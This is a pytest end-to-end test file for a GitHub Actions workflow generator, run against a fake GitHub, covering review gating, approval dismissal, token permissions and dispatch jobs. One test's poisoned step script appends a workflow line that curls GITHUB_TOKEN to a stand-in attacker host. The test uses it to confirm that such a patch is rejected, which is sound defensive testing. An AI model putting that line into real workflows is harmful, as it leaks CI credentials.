"""End to end: the workflows `repowarden generate` renders, run job by job against the fake GitHub.

Each scenario renders an example config with the CLI into a temporary repository,
pushes it as the fake repository's default branch, delivers an event to the
workflow runner (tests/workflow_runner), and asserts on the fake GitHub's final
state and on the calls it received, attributed to jobs by their tokens.

Speed: every job runs the composite action's real `python -m venv` + `pip install
--require-hashes -r …` command line. The first job per distinct requirements file
installs into an empty venv (from PyPI through a pip cache shared by sessions);
later jobs start with a copy of that venv in `$RUNNER_TEMP/repowarden-venv`, so
the same command finds everything already satisfied.
"""

from __future__ import annotations

import shutil
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fake_github.server import Call, FakeGitHub
from repowarden.runtime.config import load_config
from support.merge_queue import merge_queue_ruleset
from workflow_runner import JobContext, JobResult, Runner, WorkflowRun, events
from workflow_runner.workflow import Step
from world.generate import render
from world.venvs import MACHINE_ENV, VENV, link_or_copy, requirements_key

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"


# ---------------------------------------------------------------- harness


class VenvCache:
    """One installed runtime venv per requirements set, shared by the session's jobs.

    The first job needing a set installs it for real while later ones wait; they then
    start from a hard-linked copy, and the same rendered command finds it all installed.
    """

    def __init__(self, root: Path) -> None:
        self.root = root
        self.guard = threading.Lock()
        self.locks: dict[str, threading.Lock] = {}
        self.installing: dict[int, str] = {}  # id(JobContext) -> key it holds

    @staticmethod
    def key(ctx: JobContext) -> str | None:
        requirements = ctx.source / ".github" / "repowarden" / "requirements.txt"
        return requirements_key(requirements) if requirements.is_file() else None

    def before(self, ctx: JobContext) -> None:
        key = self.key(ctx)
        if key is None:
            return
        with self.guard:
            lock = self.locks.setdefault(key, threading.Lock())
        lock.acquire()
        if (self.root / key).is_dir():
            lock.release()
            shutil.copytree(
                self.root / key, ctx.runner_temp / VENV, symlinks=True, copy_function=link_or_copy
            )
        else:
            self.installing[id(ctx)] = key  # released in after(), whatever happens

    def after(self, ctx: JobContext, result: JobResult) -> None:
        key = self.installing.pop(id(ctx), None)
        if key is None:
            return
        try:
            venv = ctx.runner_temp / VENV
            if any(venv.glob("lib/python*/site-packages/ghapi")):
                shutil.copytree(venv, self.root / f"{key}.tmp", symlinks=True)
                (self.root / f"{key}.tmp").rename(self.root / key)
        finally:
            self.locks[key].release()


@pytest.fixture(scope="session")
def venv_cache(tmp_path_factory: pytest.TempPathFactory) -> VenvCache:
    return VenvCache(tmp_path_factory.mktemp("runtime-venvs"))


def render_example(example: str, dest: Path, config_prefix: str = "") -> dict[str, bytes]:
    """`repowarden generate` into a fresh tree holding only the example's config."""
    config = (EXAMPLES / example / ".github" / "repowarden.yml").read_text("utf-8")
    return render(config_prefix + config, dest)


@dataclass
class Scenario:
    gh: FakeGitHub
    repo: str
    runner: Runner
    files: dict[str, bytes]

    def deliver(
        self, event_name: str, payload: dict[str, Any], **kw: Any
    ) -> dict[str, WorkflowRun]:
        runs = self.runner.trigger(event_name, payload, **kw)
        return {Path(r.workflow).name: r for r in runs}

    def calls_by(self, run: WorkflowRun, job: str) -> list[Call]:
        token = run.job(job).token
        return [c for c in self.gh.calls if token is not None and c.token == token]

    def head(self, branch: str | None = None) -> str:
        r = self.gh.repo(self.repo)
        sha = r.git.resolve(branch or r.default_branch)
        assert sha is not None
        return sha

    def refs(self) -> dict[str, str]:
        r = self.gh.repo(self.repo)
        return r.git.refs()


@pytest.fixture
def make_scenario(
    github: FakeGitHub, tmp_path: Path, venv_cache: VenvCache
) -> Callable[..., Scenario]:
    # Jobs start from a clean environment: they find the fake only through the runner's
    # GITHUB_API_URL, as on a real runner (which never sets GH_HOST).
    def make(
        example: str,
        extra_files: dict[str, str] | None = None,
        config_prefix: str = "",
        *,
        with_gate: bool = False,
        **runner_kw: Any,
    ) -> Scenario:
        files = render_example(example, tmp_path / "rendered", config_prefix)
        if not with_gate:
            # Scenarios that do not deliver the gate's workflow_run leave its workflow
            # out; the faithful world (tests/world) runs the whole chain by GitHub's rules.
            files.pop(GATE_WORKFLOW)
        config = load_config(tmp_path / "rendered" / ".github" / "repowarden.yml")
        repo, default = config.repository, config.default_branch
        all_files: dict[str, str | bytes] = {**files, **(extra_files or {})}
        github.add_repo(repo, default_branch=default, files=all_files)
        runner = Runner(
            github,
            repo,
            tmp_path / "runner",
            machine_env=MACHINE_ENV,
            job_hook=venv_cache.before,
            after_job=venv_cache.after,
            **runner_kw,
        )
        return Scenario(github, repo, runner, files)

    return make


GATE_WORKFLOW = ".github/workflows/repowarden-gate.yml"


def statuses(scenario: Scenario, sha: str) -> dict[str, Any]:
    return scenario.gh.statuses(scenario.repo, sha)


# ---------------------------------------------------------------- teleport: reviews

TELEPORT = "gravitational/teleport"
STAR = ["r0mant", "zmb3", "rosstimothy", "codingllama"]


def fork_pr(s: Scenario) -> int:
    for login in STAR:
        s.gh.add_collaborator(s.repo, login)
    s.gh.add_org_member("gravitational", "r0mant")
    return s.gh.add_pull(
        s.repo,
        author="mallory",
        head_repo="mallory/teleport",
        files={"lib/feature.go": "package lib\n"},
        title="Add a feature",
    )


def summary(calls: list[Call]) -> list[str]:
    return [f"{c.method} {c.path} -> {c.status}" for c in calls]


def granted(s: Scenario, run: WorkflowRun, job: str) -> dict[str, str]:
    """The permissions the fake GitHub holds for the job's token."""
    token = run.job(job).token
    assert token is not None
    return dict(s.gh.state.tokens[token].permissions)


def test_1_fork_pr_opened_requests_star_reviewers_and_check_fails(make_scenario: Any) -> None:
    s: Scenario = make_scenario("teleport")
    number = fork_pr(s)
    head = s.gh.pull(s.repo, number).head_sha
    runs = s.deliver("pull_request_target", events.pull_request(s.gh, s.repo, number, "opened"))

    assert set(runs) == {"repowarden-assign.yml", "repowarden-check.yml"}
    assign, check = runs["repowarden-assign.yml"], runs["repowarden-check.yml"]
    assert assign.conclusion == "success", assign.describe()
    requested = s.gh.pull(s.repo, number).requested_reviewers
    assert sorted(r.lower() for r in requested) == sorted(r.lower() for r in STAR)
    assert check.job("check").result == "failure", check.describe()
    assert check.job("dismiss-approvals").result == "skipped"
    log = check.job("check").log
    assert "mallory is an external contributor" in log
    assert "2 approval(s) needed, none so far" in log
    job_summary = check.job("check").summary
    assert job_summary.startswith(f"### Review check for #{number}: ❌ not approved")
    assert "- **missing:** " in job_summary

    status = statuses(s, head)["repowarden/review"]
    assert status.state == "failure"
    assert "missing approval" in status.description
    assert all(login in status.description for login in STAR)
    assert status.creator == "github-actions[bot]"

    # Who called what, with which token: each job's token holds exactly its permissions.
    assert granted(s, assign, "assign") == {"contents": "read", "pull-requests": "write"}
    assert granted(s, check, "check") == {
        "contents": "read",
        "pull-requests": "read",
        "statuses": "write",
    }
    assert summary(s.calls_by(assign, "assign")) == [
        f"POST /repos/{TELEPORT}/pulls/{number}/requested_reviewers -> 201"
    ]
    check_calls = summary(s.calls_by(check, "check"))
    assert f"GET /repos/{TELEPORT}/pulls/{number}/reviews -> 200" in check_calls
    assert check_calls[-1] == f"POST /repos/{TELEPORT}/statuses/{head} -> 201"
    assert all(c.token is not None for c in s.gh.calls)
    assert len(s.gh.calls) == len(s.calls_by(assign, "assign")) + len(check_calls)


def test_1_on_ghes_the_action_runs_from_each_jobs_checkout(make_scenario: Any) -> None:
    # `local_action: checkout` (GitHub Enterprise Server has no `$/`): the same jobs
    # run the action as `./…` from the commit they checked out, with the same result.
    s: Scenario = make_scenario("teleport", config_prefix="local_action: checkout\n")
    workflow = s.files[".github/workflows/repowarden-check.yml"].decode()
    assert "uses: $/" not in workflow
    assert "uses: ./.github/actions/repowarden  # zizmor: ignore[self-repository]" in workflow
    number = fork_pr(s)
    runs = s.deliver("pull_request_target", events.pull_request(s.gh, s.repo, number, "opened"))
    assign, check = runs["repowarden-assign.yml"], runs["repowarden-check.yml"]
    assert assign.conclusion == "success", assign.describe()
    assert check.job("check").result == "failure", check.describe()
    assert "2 approval(s) needed, none so far" in check.job("check").log
    head = s.gh.pull(s.repo, number).head_sha
    assert statuses(s, head)["repowarden/review"].state == "failure"


def review_event(s: Scenario, number: int, review_id: int) -> dict[str, WorkflowRun]:
    """pull_request_review runs the workflow of the PR's merge commit; the base has not moved,
    so its tree is the head's (the fake keeps no refs/pull/N/merge)."""
    pull = s.gh.pull(s.repo, number)
    return s.deliver(
        "pull_request_review",
        events.pull_request_review(s.gh, s.repo, number, review_id),
        sha=pull.head_sha,
        ref=f"refs/pull/{number}/merge",
    )


def workflow_run(
    s: Scenario, event: str, head_sha: str, head_branch: str, head_repo: str, numbers: list[int]
) -> dict[str, Any]:
    """The workflow_run event of a completed run of the review workflow, as GitHub sends it
    (hand-built: the local runner does not start workflow_run runs itself). A fork run's
    `pull_requests` is empty (docs/github-facts.md)."""
    with s.gh.state.lock:
        repository = s.gh.render.repo(s.gh.repo(s.repo), full=True)
        head = s.gh.render.repo(s.gh.repo(head_repo))
    return {
        "action": "completed",
        "workflow_run": {
            "id": 4242,
            "name": "repowarden: review recorded",
            "path": ".github/workflows/repowarden-review.yml",
            "event": event,
            "status": "completed",
            "conclusion": "success",
            "head_sha": head_sha,
            "head_branch": head_branch,
            "head_repository": head,
            "pull_requests": [{"number": n} for n in numbers],
        },
        # GitHub's payload names the workflow that ran, beside the run itself
        # (@octokit/webhooks-examples, workflow_run.completed).
        "workflow": {
            "name": "repowarden: review recorded",
            "path": ".github/workflows/repowarden-review.yml",
        },
        "repository": repository,
        "sender": {"login": "r0mant", "id": 1, "type": "User"},
    }


def test_2_admin_approvals_pass_then_a_push_dismisses_them(make_scenario: Any) -> None:
    s: Scenario = make_scenario("teleport")
    number = fork_pr(s)
    first_head = s.gh.pull(s.repo, number).head_sha

    approvals = []
    for admin in ("r0mant", "zmb3"):
        approvals.append(s.gh.add_review(s.repo, number, user=admin, state="APPROVED"))
        runs = review_event(s, number, approvals[-1])
        # The review runs the PR's own workflow: it holds nothing and writes nothing.
        assert set(runs) == {"repowarden-review.yml"}
        record = runs["repowarden-review.yml"]
        assert record.job("record").result == "success", record.describe()
        assert granted(s, record, "record") == {}
        assert s.calls_by(record, "record") == []
    assert statuses(s, first_head) == {}

    # The contributor pushes: approvals are dismissed, reviewers re-requested and
    # mentioned once, the check fails again on the new head.
    s.gh.calls.clear()
    new_head = s.gh.push(s.repo, number, files={"lib/feature.go": "package lib // v2\n"})
    sync = events.pull_request(s.gh, s.repo, number, "synchronize")
    runs = s.deliver("pull_request_target", sync)
    check = runs["repowarden-check.yml"]
    assert check.job("check").result == "failure", check.describe()
    assert check.job("dismiss-approvals").result == "success", check.describe()
    # check and dismiss-approvals run side by side (no needs:), as on GitHub; whichever
    # order they take, the approvals of the old head do not count.
    assert "2 approval(s) needed, none so far" in check.job("check").log
    assert [(r.user, r.state) for r in s.gh.reviews(s.repo, number)] == [
        ("r0mant", "DISMISSED"),
        ("zmb3", "DISMISSED"),
    ]
    assert all(new_head in (r.dismissal_message or "") for r in s.gh.reviews(s.repo, number))
    assert sorted(s.gh.pull(s.repo, number).requested_reviewers) == ["r0mant", "zmb3"]
    [comment] = s.gh.comments(s.repo, number)
    assert comment.body.startswith("@r0mant @zmb3: new commits were pushed")
    assert comment.user == "github-actions[bot]"
    assert statuses(s, new_head)["repowarden/review"].state == "failure"
    assert granted(s, check, "dismiss-approvals") == {"contents": "read", "pull-requests": "write"}
    dismiss_calls = summary(s.calls_by(check, "dismiss-approvals"))
    for review_id in approvals:
        path = f"/repos/{TELEPORT}/pulls/{number}/reviews/{review_id}/dismissals"
        assert f"PUT {path} -> 200" in dismiss_calls
    assert f"POST /repos/{TELEPORT}/pulls/{number}/requested_reviewers -> 201" in dismiss_calls
    assert f"POST /repos/{TELEPORT}/issues/{number}/comments -> 201" in dismiss_calls

    # Re-running the job (attempt 2) mentions nobody a second time.
    s.gh.calls.clear()
    rerun = s.deliver("pull_request_target", sync, run_attempt=2, jobs={"dismiss-approvals"})
    again = rerun["repowarden-check.yml"]
    assert set(again.jobs) == {"dismiss-approvals"}
    assert again.job("dismiss-approvals").result == "success", again.describe()
    assert len(s.gh.comments(s.repo, number)) == 1
    assert [c for c in s.gh.writes() if "/comments" in c.path or "/dismissals" in c.path] == []


def test_3_the_sweep_settles_open_pull_requests_and_deletes_no_run(make_scenario: Any) -> None:
    s: Scenario = make_scenario("teleport")
    for login in STAR:
        s.gh.add_collaborator(s.repo, login)
    internal = s.gh.add_pull(s.repo, author="zmb3", head_ref="zmb3/fix")
    s.gh.add_review(s.repo, internal, user="r0mant")
    s.gh.add_review(s.repo, internal, user="codingllama")
    fork_b = s.gh.add_pull(s.repo, author="mallory", head_repo="mallory/teleport")
    fork_c = s.gh.add_pull(s.repo, author="eve", head_repo="eve/teleport")
    merged = s.gh.add_pull(s.repo, author="zmb3", head_ref="old", state="closed")
    wf = s.gh.add_workflow(s.repo, ".github/workflows/repowarden-check.yml")
    for number in (internal, fork_b, merged):
        pull = s.gh.pull(s.repo, number)
        s.gh.add_run(s.repo, wf, head_sha=pull.head_sha, head_branch=pull.head_ref)
    s.gh.calls.clear()

    cron = load_config(EXAMPLES / "teleport/.github/repowarden.yml").dismiss.schedule
    runs = s.deliver("schedule", events.schedule(s.gh, s.repo, cron))
    assert set(runs) == {"repowarden-dismiss.yml"}
    sweep = runs["repowarden-dismiss.yml"]
    assert sweep.conclusion == "success", sweep.describe()
    assert set(sweep.jobs) == {"sweep"}  # deleting runs is opt-in (dismiss.delete_runs)
    state = {n: statuses(s, s.gh.pull(s.repo, n).head_sha) for n in (internal, fork_b, fork_c)}
    assert state[internal]["repowarden/review"].state == "success"
    assert state[fork_b]["repowarden/review"].state == "failure"
    assert state[fork_c]["repowarden/review"].state == "failure"
    assert statuses(s, s.gh.pull(s.repo, merged).head_sha) == {}
    assert len(s.gh.state.runs_of(s.repo, wf)) == 3
    assert granted(s, sweep, "sweep") == {
        "contents": "read",
        "pull-requests": "read",
        "statuses": "write",
    }
    assert all(c.method in ("GET", "POST") for c in s.gh.calls)

    # Nothing changed: the next sweep reads each gate and the reviews, and writes nothing.
    s.gh.calls.clear()
    again = s.deliver("schedule", events.schedule(s.gh, s.repo, cron))["repowarden-dismiss.yml"]
    assert again.conclusion == "success", again.describe()
    assert s.gh.writes() == []
    assert len(s.gh.calls) == 1 + 2 * 3
    assert "- API calls: 7 (1 listing pages), 7 points of this sweep's 450" in (
        again.job("sweep").summary
    )


# ---------------------------------------------------------------- trio: dispatch

TRIO = "python-trio/trio"
TRIO_BOT, TRIO_BOT_ID = "trio-bot", 63812935
# Stale: idna was added to test-requirements.in, and neither file carries hashes yet.
STALE = {
    "test-requirements.in": "six\nidna\n",
    "test-requirements.txt": "six==1.15.0\n    # via -r test-requirements.in\n",
    "docs-requirements.in": "idna\n",
    "docs-requirements.txt": "idna==3.6\n    # via -r docs-requirements.in\n",
}


def dispatch_event(
    s: Scenario, operation: str, dispatch_id: str, *, sender: str = TRIO_BOT, **extra: Any
) -> dict[str, Any]:
    payload = {"operation": operation, "id": dispatch_id, "repo": TRIO, **extra}
    return events.repository_dispatch(s.gh, s.repo, "repowarden", payload, sender=sender)


def job_calls(s: Scenario, run: WorkflowRun) -> dict[str, list[str]]:
    return {j: summary(s.calls_by(run, j)) for j in run.jobs}


def changed_files(s: Scenario, old: str, new: str) -> dict[str, bytes]:
    r = s.gh.repo(s.repo)
    before, after = r.git.files_at(old), r.git.files_at(new)
    assert set(before) <= set(after)
    return {p: after[p] for p in after if before.get(p) != after[p]}


def test_4_trusted_pip_compile_dispatch_opens_a_pull_request(make_scenario: Any) -> None:
    s: Scenario = make_scenario("trio", extra_files=STALE)
    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
    # apply opens the pull request with GITHUB_TOKEN: GitHub refuses that unless the
    # repository allows Actions to create pull requests (off by default;
    # tests/fake_github/RULES.md).
    s.gh.set_workflow_permissions(s.repo, can_approve_pull_request_reviews=True)
    base = s.head()

    runs = s.deliver("repository_dispatch", dispatch_event(s, "pip-compile", "e2e-pip-1"))
    assert set(runs) == {"repowarden-dispatch.yml"}
    run = runs["repowarden-dispatch.yml"]
    assert run.job("unprivileged").result == "success", run.describe()
    assert run.job("apply").result == "success", run.describe()
    assert run.job("announce").result == "success", run.describe()
    assert run.job("publish").result == "skipped"
    assert run.job("unprivileged").name == "unprivileged-e2e-pip-1"
    assert run.job("apply").name == "privileged-e2e-pip-1"
    assert sorted(run.artifacts["e2e-pip-1"].files) == ["manifest.json", "patch.diff"]

    # A branch with the recompiled files, and a pull request from it.
    branch = "repowarden/pip-compile/e2e-pip-1"
    head = s.head(branch)
    r = s.gh.repo(s.repo)
    assert r.git.commit_info(head).parents == [base]
    changed = changed_files(s, base, head)
    assert sorted(changed) == ["docs-requirements.txt", "test-requirements.txt"]
    # pip-compile keeps existing pins and adds what the .in gained, with hashes.
    test_txt = changed["test-requirements.txt"].decode()
    assert "six==1.15.0 \\\n    --hash=sha256:" in test_txt
    assert "\nidna==" in test_txt
    assert "idna==3.6 \\\n    --hash=sha256:" in changed["docs-requirements.txt"].decode()
    pulls = [p for p in s.gh.state.pulls.values() if p.repo == s.repo]
    assert [(p.head_ref, p.base_ref, p.state, p.head_sha) for p in pulls] == [
        (branch, "main", "open", head)
    ]
    assert s.head() == base  # the default branch never moves

    # Only the apply job wrote, with its own token; the unprivileged job had none to use.
    assert granted(s, run, "unprivileged") == {"contents": "read"}
    assert granted(s, run, "apply") == {"contents": "write", "pull-requests": "write"}
    calls = job_calls(s, run)
    assert calls["unprivileged"] == []
    assert calls["publish"] == []
    writes = [c for c in calls["apply"] if not c.startswith("GET ")]
    assert writes[-1] == f"POST /repos/{TRIO}/pulls -> 201"
    assert f"POST /repos/{TRIO}/git/refs -> 201" in writes
    assert all(c.token is not None for c in s.gh.calls)
    assert sum(map(len, calls.values())) == len(s.gh.calls)


def test_5_untrusted_sender_runs_nothing(make_scenario: Any) -> None:
    s: Scenario = make_scenario("trio", extra_files=STALE)
    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
    # Same login, another account: only the numeric id counts.
    s.gh.add_user("mallory", id=1234567, type="User")
    refs = s.refs()

    event = dispatch_event(s, "pip-compile", "e2e-pip-2", sender="mallory")
    run = s.deliver("repository_dispatch", event)["repowarden-dispatch.yml"]
    assert {j: r.result for j, r in ((j, run.job(j)) for j in run.jobs)} == dict.fromkeys(
        ("verify", "unprivileged", "announce", "apply", "publish"), "skipped"
    )
    # No job got past its `if:`: no token was minted, no step ran, nothing was called.
    assert all(run.job(j).token is None and run.job(j).steps == [] for j in run.jobs)
    assert run.artifacts == {}
    assert s.gh.calls == []
    assert s.refs() == refs


POISON = r"""
set -euo pipefail
out="$RUNNER_TEMP/repowarden-artifacts"
mkdir -p "$out"
cd "$GITHUB_WORKSPACE/target"
echo 'six==1.17.0' > test-requirements.txt
workflow=.github/workflows/repowarden-dispatch.yml
printf '      - run: curl -d "$GITHUB_TOKEN" https://evil.example\n' >> "$workflow"
git diff > "$out/patch.diff"
python3 - "$out" <<'PY'
import hashlib, json, os, sys
out = sys.argv[1]
event = json.load(open(os.environ["GITHUB_EVENT_PATH"]))
data = open(os.path.join(out, "patch.diff"), "rb").read()
entry = {"path": "patch.diff", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
manifest = {
    "operation": event["client_payload"]["operation"],
    "id": event["client_payload"]["id"],
    "repository": os.environ["GITHUB_REPOSITORY"],
    "base_sha": os.environ["GITHUB_SHA"],
    "head_sha": os.environ["GITHUB_SHA"],
    "files": [entry],
}
json.dump(manifest, open(os.path.join(out, "manifest.json"), "w"))
PY
"""


def test_6_poisoned_artifact_fails_the_privileged_job_and_changes_nothing(
    make_scenario: Any,
) -> None:
    # Runner hook (not an edit of the rendered workflow): the unprivileged job's
    # "Run the operation" step is replaced by untrusted code that writes a patch
    # touching .github/workflows/ with a manifest whose hashes are all correct.
    def poison(job: str, step: Step) -> dict[str, Any] | None:
        if job == "unprivileged" and step.data.get("name") == "Run the operation":
            return {"name": "Run the operation (poisoned)", "shell": "bash", "run": POISON}
        return None

    s: Scenario = make_scenario("trio", extra_files=STALE, step_hook=poison)
    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
    refs = s.refs()

    event = dispatch_event(s, "pip-compile", "e2e-pip-3")
    run = s.deliver("repository_dispatch", event)["repowarden-dispatch.yml"]
    unprivileged, apply = run.job("unprivileged"), run.job("apply")
    assert unprivileged.result == "success", run.describe()
    assert unprivileged.step("Run the operation (poisoned)").outcome == "success"
    assert sorted(run.artifacts["e2e-pip-3"].files) == ["manifest.json", "patch.diff"]
    assert apply.result == "failure", run.describe()
    assert ".github/workflows/repowarden-dispatch.yml" in apply.log
    # Nothing changed: no ref moved or appeared, no pull request, no comment, no write.
    assert s.refs() == refs
    assert [p for p in s.gh.state.pulls.values() if p.repo == s.repo] == []
    assert s.gh.state.comments == []
    assert s.gh.writes() == []
    assert granted(s, run, "apply") == {"contents": "write", "pull-requests": "write"}
    calls = job_calls(s, run)
    assert calls["unprivileged"] == []
    assert sum(map(len, calls.values())) == len(s.gh.calls)


PROJECT = {
    "pyproject.toml": (
        "[build-system]\n"
        'requires = ["flit_core>=3.9,<4"]\n'
        'build-backend = "flit_core.buildapi"\n\n'
        "[project]\n"
        'name = "trio"\n'
        'version = "0.99.0"\n'
        'description = "A stand-in for trio in the e2e tests."\n'
    ),
    "trio/__init__.py": '"""A stand-in for trio in the e2e tests."""\n',
}


def test_7_release_dispatch_publishes_exactly_the_verified_distributions(
    make_scenario: Any,
) -> None:
    s: Scenario = make_scenario("trio", extra_files=PROJECT)
    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
    refs = s.refs()

    run = s.deliver("repository_dispatch", dispatch_event(s, "release", "e2e-rel-1"))[
        "repowarden-dispatch.yml"
    ]
    assert run.job("unprivileged").result == "success", run.describe()
    assert run.job("apply").result == "skipped"
    publish = run.job("publish")
    assert publish.result == "success", run.describe()
    assert publish.environment == "release"
    assert granted(s, run, "publish") == {"contents": "read", "id-token": "write"}

    artifact = run.artifacts["e2e-rel-1"].files
    dists = {p.removeprefix("dist/"): d for p, d in artifact.items() if p.startswith("dist/")}
    assert sorted(dists) == ["trio-0.99.0-py2.py3-none-any.whl", "trio-0.99.0.tar.gz"]
    [published] = run.published
    assert published.files == dists
    assert published.job == "publish"
    assert published.environment == "release"
    assert published.permissions == {"contents": "read", "id-token": "write"}
    # Publishing changes nothing on GitHub; no job used its token to write.
    assert s.refs() == refs
    assert s.gh.writes() == []
    calls = job_calls(s, run)
    assert calls["unprivileged"] == []
    assert calls["publish"] == []
    assert sum(map(len, calls.values())) == len(s.gh.calls)


# ---------------------------------------------------------------- beyond the seven


def test_a_fork_review_is_decided_by_the_workflow_run_gate(make_scenario: Any) -> None:
    s: Scenario = make_scenario("teleport", with_gate=True)
    number = fork_pr(s)
    first_head = s.gh.pull(s.repo, number).head_sha
    for admin in ("r0mant", "zmb3"):
        review = s.gh.add_review(s.repo, number, user=admin, state="APPROVED")
        assert set(review_event(s, number, review)) == {"repowarden-review.yml"}
    # Its completion starts the gate from the default branch, which finds the fork PR
    # by head repository and SHA and writes the status.
    payload = workflow_run(s, "pull_request_review", first_head, "patch-1", "mallory/teleport", [])
    runs = s.deliver("workflow_run", payload)
    assert set(runs) == {"repowarden-gate.yml"}
    gate = runs["repowarden-gate.yml"]
    assert gate.job("gate").result == "success", gate.describe()
    assert "approved by r0mant, zmb3" in gate.job("gate").log
    status = statuses(s, first_head)["repowarden/review"]
    assert (status.state, status.description) == ("success", "approved by r0mant, zmb3")
    assert granted(s, gate, "gate") == {
        "contents": "read",
        "pull-requests": "read",
        "statuses": "write",
    }
    gate_calls = summary(s.calls_by(gate, "gate"))
    assert gate_calls[0] == f"GET /repos/{TELEPORT}/pulls -> 200"
    assert gate_calls[-1] == f"POST /repos/{TELEPORT}/statuses/{first_head} -> 201"


def test_merge_group_is_decided_by_the_gate_and_runs_the_lint_job(make_scenario: Any) -> None:
    """A required check must report on the merge queue; the lint workflow runs there too,
    so this also runs the target's own gate: drift check, actionlint and zizmor."""
    s: Scenario = make_scenario("teleport", with_gate=True)
    for login in STAR:
        s.gh.add_collaborator(s.repo, login)
    merge_queue_ruleset(s.gh, s.repo)  # ALLGREEN, as `repowarden protect --merge-queue`
    s.gh.calls.clear()  # the setup's call
    number = s.gh.add_pull(s.repo, author="zmb3", head_ref="zmb3/queued")
    base = s.head()
    queue = f"gh-readonly-queue/master/pr-{number}-{base}"
    sha = s.gh.commit(s.repo, {"lib/queued.go": "package lib\n"}, branch=queue)
    with s.gh.state.lock:
        repository = s.gh.render.repo(s.gh.repo(s.repo), full=True)
    payload = {
        "action": "checks_requested",
        "merge_group": {
            "head_sha": sha,
            "head_ref": f"refs/heads/{queue}",
            "base_sha": base,
            "base_ref": "refs/heads/master",
        },
        "repository": repository,
        "sender": {"login": "github-merge-queue[bot]", "id": 9919, "type": "Bot"},
    }
    runs = s.deliver("merge_group", payload)
    assert set(runs) == {"repowarden-review.yml", "repowarden-lint.yml"}
    record, lint = runs["repowarden-review.yml"], runs["repowarden-lint.yml"]
    assert record.job("record").result == "success", record.describe()
    assert granted(s, record, "record") == {}
    assert lint.job("lint").result == "success", lint.describe()
    assert "generated files match" in lint.job("lint").log
    assert "No findings to report" in lint.job("lint").step("zizmor").log
    assert granted(s, lint, "lint") == {"contents": "read"}
    assert s.gh.calls == []  # the merge group's own workflows write nothing

    # The gate (default branch) re-evaluates the queued PR: not approved, so not green.
    gate_payload = workflow_run(s, "merge_group", sha, queue, s.repo, [])
    gate = s.deliver("workflow_run", gate_payload)["repowarden-gate.yml"]
    assert gate.job("gate").result == "failure", gate.describe()
    assert statuses(s, sha)["repowarden/review"].state == "failure"

    s.gh.add_review(s.repo, number, user="r0mant")
    s.gh.add_review(s.repo, number, user="codingllama")
    s.gh.calls.clear()
    gate = s.deliver("workflow_run", gate_payload)["repowarden-gate.yml"]
    assert gate.job("gate").result == "success", gate.describe()
    assert statuses(s, sha)["repowarden/review"].state == "success"
    assert summary(s.calls_by(gate, "gate")) == [
        f"GET /repos/{TELEPORT}/pulls/{number} -> 200",
        f"GET /repos/{TELEPORT}/rules/branches/master -> 200",  # ALLGREEN?
        f"GET /repos/{TELEPORT}/commits/{sha}/status -> 200",
        f"GET /repos/{TELEPORT}/pulls/{number}/reviews -> 200",
        f"GET /repos/{TELEPORT}/pulls/{number} -> 200",
        f"POST /repos/{TELEPORT}/statuses/{sha} -> 201",
    ]


def test_pip_compile_for_a_fork_pull_request_only_comments_the_patch(make_scenario: Any) -> None:
    """For a fork PR nothing is pushed: announce posts one comment, apply updates it."""
    s: Scenario = make_scenario("trio", extra_files=STALE)
    s.gh.add_user(TRIO_BOT, id=TRIO_BOT_ID, type="Bot")
    number = s.gh.add_pull(
        s.repo, author="mallory", head_repo="mallory/trio", files={"src/x.py": "x = 1\n"}
    )
    refs = s.refs()

    event = dispatch_event(s, "pip-compile", "e2e-pip-pr", pr=number)
    run = s.deliver("repository_dispatch", event)["repowarden-dispatch.yml"]
    for job in ("unprivileged", "announce", "apply"):
        assert run.job(job).result == "success", run.describe()
    # The operation worked on the PR head, checked out read-only by the unprivileged job.
    target = run.job("unprivileged").uses("actions/checkout")[1]
    assert target.outputs["commit"] == s.gh.pull(s.repo, number).head_sha

    [comment] = s.gh.comments(s.repo, number)
    assert comment.user == "github-actions[bot]"
    assert "test-requirements.txt" in comment.body
    assert "+idna==" in comment.body
    assert s.refs() == refs
    assert [p.number for p in s.gh.state.pulls.values() if p.repo == s.repo] == [number]

    calls = job_calls(s, run)
    assert calls["unprivileged"] == []
    assert f"POST /repos/{TRIO}/issues/{number}/comments -> 201" in calls["announce"]
    assert f"PATCH /repos/{TRIO}/issues/comments/{comment.id} -> 200" in calls["apply"]
    assert [c for c in s.gh.writes() if "/git/" in c.path or c.path.endswith("/pulls")] == []
